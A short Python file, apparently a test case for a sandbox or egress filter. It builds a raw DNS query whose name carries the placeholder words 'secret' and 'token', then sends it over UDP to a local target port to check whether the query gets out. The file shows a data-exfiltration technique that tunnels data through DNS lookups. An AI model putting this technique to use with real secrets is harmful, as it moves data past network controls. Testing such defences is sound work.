"""smuggles data out in a look-up of a name, by a query of its own making"""

import socket


def attack():
    name = b"\x06secret\x05token\x07invalid\0"
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\x01\0\x01"
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        sock.connect(("::ffff:127.0.0.1", TARGETS["udp_port"]))
        if sock.send(query) == len(query):
            reached("a query is sent")
